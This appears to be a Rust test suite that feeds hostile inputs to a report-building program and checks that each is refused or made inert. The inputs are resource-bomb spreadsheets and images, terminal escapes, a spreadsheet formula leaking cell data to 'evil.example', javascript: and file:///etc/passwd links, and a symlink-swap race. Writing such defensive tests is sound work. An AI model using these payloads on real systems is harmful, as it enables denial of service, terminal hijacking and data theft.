//! A hostile report folder, third pass: each attack found against the web
//! edition, the open data, the other workbook formats and `watch`, tried
//! against the real program. Each test is named after its attack and fails
//! without its fix: a process aborted by a size the file declares, a memory
//! guard skipped, an image of another site on the web page, an escape that
//! takes over the terminal, a formula in the open data, a dangerous link in
//! the PDF, a look-alike code, a text that makes a thousand pages.
#![cfg(unix)]

use crate::common;
use common::{C, Libro, relazione, s, sostituisci_nel_zip, t};
use std::path::Path;

/// The program under a cap on its address space (`ulimit -v`, 8 GB: what the
/// build of a small folder takes is far below), as the issue asks: an attack
/// must end in an Italian error, never in an abort (exit 134) or a kill.
fn relazione_limitata(args: &[&str]) -> (i32, String) {
    use std::os::unix::process::CommandExt;
    let mut comando = std::process::Command::new(env!("CARGO_BIN_EXE_relazione"));
    comando.args(args);
    // SAFETY: only setrlimit between fork and exec.
    unsafe {
        comando.pre_exec(|| {
            let limite = libc::rlimit {
                rlim_cur: 8 << 30,
                rlim_max: 8 << 30,
            };
            libc::setrlimit(libc::RLIMIT_AS, &limite);
            Ok(())
        });
    }
    let out = comando.output().unwrap();
    let testo = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!testo.contains("memory allocation"), "{args:?}: an abort\n{testo}");
    (out.status.code().unwrap_or(-1), testo)
}

/// A refusal: exit 1 and every piece in the message.
fn rifiutato((codice, testo): (i32, String), pezzi: &[&str]) {
    assert_eq!(codice, 1, "{testo}");
    for p in pezzi {
        assert!(testo.contains(p), "expected {p:?} in:\n{testo}");
    }
}

/// An `.xls` (BIFF8 in a compound file) of one sheet "Ente": the workbook's
/// part with the shared texts `condivisi`, then the sheet with the records
/// given (type, data) between its BOF and EOF.
fn xls(condivisi: &[String], foglio: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let record = |tipo: u16, dati: &[u8]| {
        let mut r = tipo.to_le_bytes().to_vec();
        r.extend((dati.len() as u16).to_le_bytes());
        r.extend(dati);
        r
    };
    let bof = |dt: u16| {
        let mut d = 0x0600u16.to_le_bytes().to_vec();
        d.extend(dt.to_le_bytes());
        d.extend([0u8; 12]);
        record(0x0809, &d)
    };
    // SST: counts, then each text as 8-bit characters; what does not fit in
    // a record of 8.224 bytes goes on in CONTINUE records, each starting with
    // its own option byte.
    let mut sst = Vec::new();
    sst.extend((condivisi.len() as u32).to_le_bytes());
    sst.extend((condivisi.len() as u32).to_le_bytes());
    let mut continui: Vec<Vec<u8>> = Vec::new();
    for testo in condivisi {
        let b = testo.as_bytes();
        sst.extend((b.len() as u16).to_le_bytes());
        sst.push(0);
        let primo = b.len().min(8224 - sst.len());
        sst.extend(&b[..primo]);
        for pezzo in b[primo..].chunks(8223) {
            let mut c = vec![0u8];
            c.extend(pezzo);
            continui.push(c);
        }
    }
    let mut nome_foglio = vec![4u8, 0];
    nome_foglio.extend(b"Ente");
    let mut globali = bof(0x0005);
    // BoundSheet8, its position filled in below.
    let posto = globali.len() + 4;
    let mut bs = vec![0u8; 6];
    bs.extend(&nome_foglio);
    globali.extend(record(0x0085, &bs));
    globali.extend(record(0x00FC, &sst));
    for c in &continui {
        globali.extend(record(0x003C, c));
    }
    globali.extend(record(0x000A, &[]));
    let inizio = globali.len() as u32;
    globali[posto..posto + 4].copy_from_slice(&inizio.to_le_bytes());
    globali.extend(bof(0x0010));
    for (tipo, dati) in foglio {
        globali.extend(record(*tipo, dati));
    }
    globali.extend(record(0x000A, &[]));
    let mut cf = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
    std::io::Write::write_all(&mut cf.create_stream("/Workbook").unwrap(), &globali).unwrap();
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

/// A DIMENSIONS record (BIFF8): rows [prima, ultima), columns [0, colonne).
fn dimensioni(prima: u32, ultima: u32, colonne: u16) -> (u16, Vec<u8>) {
    let mut d = prima.to_le_bytes().to_vec();
    d.extend(ultima.to_le_bytes());
    d.extend(0u16.to_le_bytes());
    d.extend(colonne.to_le_bytes());
    d.extend([0u8; 2]);
    (0x0200, d)
}

/// A folder holding only `relazione.xls`.
fn cartella_xls(dati: &[u8]) -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("xls");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("relazione.xls"), dati).unwrap();
    (tmp, dir)
}

#[test]
fn shared_strings_declaring_a_million_billion_texts_are_refused_not_an_abort() {
    // 16 KB: the reading library reserved room for 10^15 texts (24.000 TB)
    // before reading one, and the process aborted.
    let (_tmp, dir) = Libro::valido().in_cartella();
    sostituisci_nel_zip(&dir.join("relazione.xlsx"), "xl/sharedStrings.xml", |x| {
        let inizio = x.find("<sst").unwrap();
        format!(
            "{}<sst uniqueCount=\"1000000000000000\"{}",
            &x[..inizio],
            &x[inizio + 4..]
        )
    });
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["relazione.xlsx", "più di 5.000.000 testi diversi"],
    );
}

#[test]
fn an_xls_declaring_four_billion_rows_is_refused_not_an_abort() {
    let dati = xls(&[], &[dimensioni(0, u32::MAX, 1)]);
    assert!(dati.len() < 64 * 1024, "{}", dati.len());
    let (_tmp, dir) = cartella_xls(&dati);
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["relazione.xls", "fino alla riga 4.294.967.295", "65.536 righe"],
    );
    // Two numbers at opposite corners (found by the fuzzer of the formats):
    // the reader made a table of 65.536 × 65.536 cells to hold them.
    let numero = |riga: u16, colonna: u16| {
        let mut d = riga.to_le_bytes().to_vec();
        d.extend(colonna.to_le_bytes());
        d.extend([0u8; 2]);
        d.extend(1.0f64.to_le_bytes());
        (0x0203, d)
    };
    let (_tmp, dir) = cartella_xls(&xls(&[], &[numero(0, 0), numero(65_535, 65_535)]));
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["Ente!", "al massimo 10.000 righe e 100 colonne"],
    );
    // Backwards (first row after the last): the reader's subtraction would wrap.
    let (_tmp, dir) = cartella_xls(&xls(&[], &[dimensioni(10, 5, 1)]));
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["relazione.xls", "o al contrario"],
    );
}

#[test]
fn an_xls_copying_one_long_text_into_20000_cells_is_refused_before_reading() {
    // One shared text of 65.535 characters shown by 20.000 cells (LabelSst,
    // 1.000 rows × 20 columns):
    // a file of some hundred kilobytes that the reader expands to 1,3 GB.
    let mut foglio = vec![dimensioni(0, 1000, 20)];
    for r in 0..1000u16 {
        for c in 0..20u16 {
            let mut d = r.to_le_bytes().to_vec();
            d.extend(c.to_le_bytes());
            d.extend([0u8; 2]);
            d.extend(0u32.to_le_bytes());
            foglio.push((0x00FD, d));
        }
    }
    let dati = xls(&["a".repeat(65_535)], &foglio);
    assert!(dati.len() < 400 * 1024, "{}", dati.len());
    let (_tmp, dir) = cartella_xls(&dati);
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["Ente", "più di 32 MB di testo"],
    );
}

#[test]
fn a_formula_that_stops_the_reading_library_is_a_damaged_file() {
    // A formula record whose length says more than it holds (found by the
    // fuzzer of the formats): the reading library panics. The child that reads
    // first tells it as a damaged file, not as a defect of the program.
    let mut formula = vec![0u8; 20];
    formula.extend(100u16.to_le_bytes());
    let (_tmp, dir) = cartella_xls(&xls(&[], &[(0x0006, formula)]));
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &[
            "relazione.xls",
            "è danneggiata e non si legge (la libreria di lettura si è fermata",
        ],
    );
}

/// Flags the first entry of a zip as encrypted, in its local header and in
/// the central directory.
fn segna_cifrata(file: &Path) {
    let mut dati = std::fs::read(file).unwrap();
    let locale = dati.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
    dati[locale + 6] |= 1;
    let centrale = dati.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    dati[centrale + 8] |= 1;
    std::fs::write(file, &dati).unwrap();
}

#[test]
fn a_zip_entry_flagged_encrypted_does_not_skip_the_decompressed_bound() {
    // The check of the decompressed size stopped at the first entry it could
    // not open: one flagged "encrypted" let 400 MB of shared strings through
    // to the reader (a 3 MB file took 9,45 GB).
    let (_tmp, dir) = Libro::valido().in_cartella();
    let file = dir.join("relazione.xlsx");
    sostituisci_nel_zip(&file, "xl/sharedStrings.xml", |x| {
        x.replace("</sst>", &format!("<si><t>{}</t></si></sst>", "a".repeat(1000)))
    });
    segna_cifrata(&file);
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["relazione.xlsx", "è cifrata o danneggiata"],
    );
    // The same in an .ods (346 KB took more than 9,8 GB).
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("ods");
    relazione::init::crea(&dir, 2025, true).unwrap();
    let file = dir.join("relazione.ods");
    segna_cifrata(&file);
    rifiutato(
        relazione_limitata(&["check", "--data", s(&dir)]),
        &["relazione.ods", "è cifrata o danneggiata"],
    );
}

/// A PNG whose header says `lato` × `lato` pixels (its data need not follow:
/// the header is what is checked, and what the decoder reserves for).
fn png_dichiarato(lato: u32) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR".to_vec();
    png.extend(lato.to_be_bytes());
    png.extend(lato.to_be_bytes());
    png.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
    png
}

#[test]
fn a_png_inside_an_svg_counts_its_pixels() {
    // The 50-Mpixel check looked at PNG files only: the same PNG as a `data:`
    // address inside an SVG went to the decoder (4 MB → 6,3 GB).
    use base64::Engine;
    let png = base64::engine::general_purpose::STANDARD.encode(png_dichiarato(30_000));
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><image width=\"10\" height=\"10\" \
         href=\"data:image/png;base64,{png}\"/></svg>"
    );
    let (_tmp, dir) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::write(dir.join("grafico.svg"), svg).unwrap();
    std::fs::write(dir.join("testi/01.md"), "# Premessa\n\n![Un grafico](grafico.svg)\n").unwrap();
    let pdf = dir.join("r.pdf");
    rifiutato(
        relazione_limitata(&["build", "--data", s(&dir), "--out", s(&pdf)]),
        &["grafico.svg", "30000 × 30000 pixel"],
    );
}

#[test]
fn a_batch_with_a_folder_that_would_abort_still_builds_the_others() {
    // Good, hostile, good: an abort in the hostile one ended the batch with no
    // PDF at all. A bad folder fails only itself.
    let tmp = tempfile::tempdir().unwrap();
    let prima = Libro::valido().scrivi(&tmp.path().join("prima"));
    let ostile = tmp.path().join("ostile");
    std::fs::create_dir_all(&ostile).unwrap();
    std::fs::write(ostile.join("relazione.xls"), xls(&[], &[dimensioni(0, u32::MAX, 1)])).unwrap();
    let terza = Libro::valido().scrivi(&tmp.path().join("terza"));
    let uscita = tmp.path().join("pdf");
    let (codice, testo) = relazione_limitata(&["build", s(&prima), s(&ostile), s(&terza), "--out-dir", s(&uscita)]);
    assert_eq!(codice, 1, "{testo}");
    assert!(testo.contains("ostile") && testo.contains("65.536 righe"), "{testo}");
    let pdf: Vec<_> = std::fs::read_dir(&uscita)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert!(pdf.iter().any(|n| n.ends_with("-prima.pdf")), "{pdf:?}");
    assert!(pdf.iter().any(|n| n.ends_with("-terza.pdf")), "{pdf:?}");
}

#[test]
fn image_paths_made_of_folders_like_https_stay_files_of_the_edition() {
    // Folders named `https:` and `evil.example` in the report folder make a
    // path that a browser reads as another site's address: the page loaded
    // an image from elsewhere. The page ships its images and names only them,
    // and tells the browser to load nothing else.
    let tmp = tempfile::tempdir().unwrap();
    let dir = Libro::valido()
        .aggiungi("Ente", vec![t("logo"), t("https:/evil.example/logo.png")])
        .scrivi(&tmp.path().join("cartella"));
    common::png_piccolo(&dir, "https:/evil.example/logo.png");
    common::png_piccolo(&dir, "https:/evil.example/x.png");
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::write(
        dir.join("testi/01.md"),
        "# Premessa\n\n![Una foto](https:/evil.example/x.png)\n",
    )
    .unwrap();
    let web = tmp.path().join("web");
    let (codice, out, err) = relazione(&["pubblica", "--data", s(&dir), "--out", s(&web)]);
    assert_eq!(codice, 0, "{out}{err}");
    let html = std::fs::read_to_string(web.join("index.html")).unwrap();
    assert!(!html.contains("evil.example/"), "an address of elsewhere:\n{html}");
    for (src, file) in [
        (
            "src=\"immagini/https-_evil.example_logo.png\"",
            "immagini/https-_evil.example_logo.png",
        ),
        (
            "src=\"immagini/https-_evil.example_x.png\"",
            "immagini/https-_evil.example_x.png",
        ),
    ] {
        assert!(html.contains(src), "{src} in:\n{html}");
        assert!(web.join(file).is_file(), "{file} shipped");
    }
    // Every image of the page is a file of the edition.
    for pezzo in html.split("<img").skip(1) {
        let src = pezzo.split("src=\"").nth(1).unwrap().split('"').next().unwrap();
        assert!(web.join(src).is_file(), "{src} is not a file of the edition");
    }
    assert!(
        html.contains(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'self'; \
             font-src 'self'; img-src 'self';"
        ),
        "{html}"
    );
}

#[test]
fn escapes_in_cells_and_file_names_never_reach_the_terminal() {
    // A cell that retitles the window, writes the clipboard (OSC 52) and
    // clears the screen to print a fake "Controllo superato": shown, not obeyed.
    let finto = "\u{1b}]0;titolo\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{1b}[H\nControllo superato";
    let (_tmp, dir) = Libro::valido().set("Indicatori", "J2", t(finto)).in_cartella();
    let (codice, out, err) = relazione(&["check", "--data", s(&dir)]);
    assert_eq!(codice, 1);
    let tutto = format!("{out}{err}");
    assert!(!tutto.contains('\u{1b}') && !tutto.contains('\u{7}'), "{tutto:?}");
    assert!(tutto.contains("␛]52;c;ZXZpbA==␇"), "{tutto}");
    // No line of the output begins with what the cell wrote.
    assert!(!tutto.lines().any(|l| l.starts_with("Controllo superato")), "{tutto}");
    // A text file named with an escape, in `diff`.
    let (_tmp2, dopo) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dopo.join("testi")).unwrap();
    std::fs::write(dopo.join("testi/\u{1b}[2J.md"), "# Nuovo\n").unwrap();
    let (_, out, err) = relazione(&["diff", s(&dir), s(&dopo)]);
    let tutto = format!("{out}{err}");
    assert!(!tutto.contains('\u{1b}'), "{tutto:?}");
}

#[test]
fn links_to_javascript_file_smb_data_vbscript_never_reach_the_pdf() {
    let (_tmp, dir) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::write(
        dir.join("testi/01.md"),
        "# Premessa\n\n[uno](javascript:app.alert(1)) [due](file:///etc/passwd) [tre](smb://server/x) \
         [quattro](data:text/html,x) [cinque](vbscript:msgbox) [sei](JaVaScRiPt:x) [sette](../altro.pdf) \
         [il sito](https://www.to.camcom.it/) [scrivere](mailto:ufficio@example.it)\n",
    )
    .unwrap();
    let pdf = dir.join("r.pdf");
    let (codice, out, err) = relazione(&["build", "--data", s(&dir), "--out", s(&pdf)]);
    assert_eq!(codice, 0, "{out}{err}");
    // The link annotations of the PDF, as qpdf writes the file uncompressed.
    let qdf = dir.join("r.qdf");
    let stato = std::process::Command::new("qpdf")
        .args(["--qdf", "--object-streams=disable", s(&pdf), s(&qdf)])
        .status()
        .unwrap();
    assert!(stato.success());
    let testo = String::from_utf8_lossy(&std::fs::read(&qdf).unwrap()).to_string();
    let indirizzi: Vec<&str> = testo
        .split("/URI (")
        .skip(1)
        .map(|p| p.split(')').next().unwrap())
        .collect();
    assert_eq!(
        indirizzi,
        ["https://www.to.camcom.it/", "mailto:ufficio@example.it"],
        "{indirizzi:?}"
    );
    // The words of the dropped links stay.
    let parole = common::parole_pdf(&pdf);
    for p in ["uno", "due", "tre", "quattro", "cinque", "sei", "sette"] {
        assert!(parole.contains(p), "{p} in {parole}");
    }
}

#[test]
fn look_alike_codes_with_zero_width_signs_are_the_same_code() {
    // `k1.1` and `k1.<ZWSP>1` look the same and were two indicators.
    let libro = Libro::valido();
    let primo = match &libro.fogli.iter().find(|(n, _)| n == "Indicatori").unwrap().1[1][0] {
        C::T(codice) => codice.clone(),
        altro => panic!("{altro:?}"),
    };
    let mut gemello = primo.clone();
    gemello.insert(gemello.len() - 1, '\u{200b}');
    let mut riga = libro.fogli.iter().find(|(n, _)| n == "Indicatori").unwrap().1[1].clone();
    riga[0] = t(&gemello);
    let (_tmp, dir) = Libro::valido().aggiungi("Indicatori", riga).in_cartella();
    let (codice, out, err) = relazione(&["check", "--data", s(&dir)]);
    let tutto = format!("{out}{err}");
    assert_eq!(codice, 1, "{tutto}");
    assert!(tutto.contains("caratteri invisibili"), "{tutto}");
    assert!(tutto.contains(&primo) && tutto.contains("ripetut"), "{tutto}");
}

#[test]
fn a_looping_text_or_ten_thousand_headings_are_refused_by_their_budget() {
    // A loop of some bytes that made 1.389 pages: the texts together are
    // bounded (30.000 × 45 bytes is 1,3 MB).
    let (_tmp, dir) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::write(
        dir.join("testi/01.md"),
        "# Ciclo\n\n{% for i in range(30000) %}Una frase ripetuta per riempire le pagine. {% endfor %}\n",
    )
    .unwrap();
    let pdf = dir.join("r.pdf");
    rifiutato(
        relazione_limitata(&["build", "--data", s(&dir), "--out", s(&pdf)]),
        &["testi/01.md", "supera 1 MB"],
    );
    assert!(!pdf.exists());
    // Two texts of 585 KB each (13.000 × 45 bytes): within the bound alone,
    // beyond it together; the second is named.
    std::fs::write(
        dir.join("testi/01.md"),
        "# Uno\n\n{% for i in range(13000) %}Una frase ripetuta per riempire le pagine. {% endfor %}\n",
    )
    .unwrap();
    std::fs::copy(dir.join("testi/01.md"), dir.join("testi/02.md")).unwrap();
    rifiutato(
        relazione_limitata(&["build", "--data", s(&dir), "--out", s(&pdf)]),
        &["testi/02.md", "superano in tutto 1 MB"],
    );
    assert!(!pdf.exists());
    // Ten thousand headings, spread over twenty texts.
    let (_tmp, dir) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    for i in 0..20 {
        std::fs::write(
            dir.join(format!("testi/{i:02}.md")),
            "## Titolo\n\nUna riga.\n\n".repeat(500),
        )
        .unwrap();
    }
    rifiutato(
        relazione_limitata(&["build", "--data", s(&dir), "--out", s(&pdf)]),
        &["più di 500 titoli"],
    );
    // Long runs joined by no-break spaces are one word the typesetter cannot break.
    let (_tmp, dir) = Libro::valido().in_cartella();
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::write(
        dir.join("testi/01.md"),
        format!("# Uno\n\n{}\n", "parola\u{a0}".repeat(200)),
    )
    .unwrap();
    rifiutato(
        relazione_limitata(&["build", "--data", s(&dir), "--out", s(&pdf)]),
        &["testi/01.md", "senza spazi"],
    );
}

#[test]
fn formulas_in_cells_reach_the_open_data_inert() {
    // A title `=HYPERLINK(…)` ran as a formula in the citizen's spreadsheet.
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Dettagli\")";
    let (_tmp, dir) = Libro::valido()
        .set("Indicatori", "C2", t(formula))
        .set("Indicatori", "C3", C::T("@SOMMA(1+1)\u{0}\u{7}".into()))
        .in_cartella();
    let web = dir.parent().unwrap().join("web");
    let (codice, out, err) = relazione(&["pubblica", "--data", s(&dir), "--out", s(&web)]);
    assert_eq!(codice, 0, "{out}{err}");
    let csv = std::fs::read_to_string(web.join("dati/indicatori.csv")).unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=") && !csv.contains(",\"=") && !csv.contains(",@"),
        "{csv}"
    );
    assert!(!csv.contains('\u{0}') && !csv.contains('\u{7}'), "{csv:?}");
}

#[test]
fn a_date_of_the_year_10113_is_an_error_naming_its_cell() {
    // The day number 3.000.000 (year 10113) as the date kpi2 was done
    // (44.895, 30/11/2022): a date the data package cannot hold.
    let (_tmp, dir) = Libro::valido().in_cartella();
    sostituisci_nel_zip(&dir.join("relazione.xlsx"), "xl/worksheets/sheet5.xml", |x| {
        assert!(x.contains("<v>44895</v>"), "{x}");
        x.replace("<v>44895</v>", "<v>3000000</v>")
    });
    let (codice, out, err) = relazione(&["check", "--data", s(&dir)]);
    let tutto = format!("{out}{err}");
    assert_eq!(codice, 1, "{tutto}");
    assert!(
        tutto.contains("Indicatori!M3") && tutto.contains("dell'anno 10113, fuori dagli anni 1900–9999"),
        "{tutto}"
    );
}

#[test]
fn a_folder_swapped_between_check_and_read_never_brings_in_an_outside_file() {
    // Whoever can write in the folder (a shared drive, during `watch`) swaps
    // `testi/` between the real folder and a link to a folder outside, as fast
    // as they can. The check judged the path while it was the real folder, the
    // reading opened it by name when it was the link: 2 builds in 95 read the
    // outside text. Now the file read is the one judged.
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("cartella");
    let fuori = tmp.path().join("fuori");
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    std::fs::create_dir_all(&fuori).unwrap();
    std::fs::write(fuori.join("01.md"), "SEGRETO").unwrap();
    std::fs::write(dir.join("testi/01.md"), "dentro").unwrap();
    let ferma = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let scambia = {
        let (ferma, dir, fuori) = (ferma.clone(), dir.clone(), fuori.clone());
        std::thread::spawn(move || {
            let (testi, parcheggio, link) = (dir.join("testi"), dir.join(".parcheggio"), dir.join(".link"));
            while !ferma.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = std::fs::rename(&testi, &parcheggio);
                let _ = std::os::unix::fs::symlink(&fuori, &link);
                let _ = std::fs::rename(&link, &testi);
                let _ = std::fs::remove_file(&testi);
                let _ = std::fs::rename(&parcheggio, &testi);
            }
        })
    };
    let nome = dir.join("testi/01.md");
    let mut letti_dentro = 0;
    for _ in 0..20_000 {
        if let Ok(dati) = relazione::disco::leggi(&dir, &nome, 1024) {
            assert_ne!(dati, b"SEGRETO", "an outside file was read");
            letti_dentro += 1;
        }
    }
    ferma.store(true, std::sync::atomic::Ordering::Relaxed);
    scambia.join().unwrap();
    assert!(letti_dentro > 0, "the inside file was never read");
}

#[test]
fn hard_links_and_fifos_in_the_folder_are_refused_at_once() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("cartella");
    std::fs::create_dir_all(dir.join("testi")).unwrap();
    // A hard link is the outside file under a second name inside.
    std::fs::write(tmp.path().join("segreto.md"), "SEGRETO").unwrap();
    std::fs::hard_link(tmp.path().join("segreto.md"), dir.join("testi/01.md")).unwrap();
    let e = relazione::disco::testi(&dir).unwrap_err().to_string();
    assert!(e.contains("testi/01.md") && e.contains("collegamento fisso"), "{e}");
    std::fs::remove_file(dir.join("testi/01.md")).unwrap();
    // A FIFO hung `check` waiting for a writer: refused without waiting.
    let fifo = std::ffi::CString::new(dir.join("testi/01.md").to_str().unwrap()).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0);
    let (tx, rx) = std::sync::mpsc::channel();
    let d = dir.clone();
    std::thread::spawn(move || {
        let _ = tx.send(relazione::disco::testi(&d).map(|_| ()).map_err(|e| e.to_string()));
    });
    let e = rx
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("reading a FIFO hung")
        .unwrap_err();
    assert!(e.contains("non è un file ordinario"), "{e}");
}
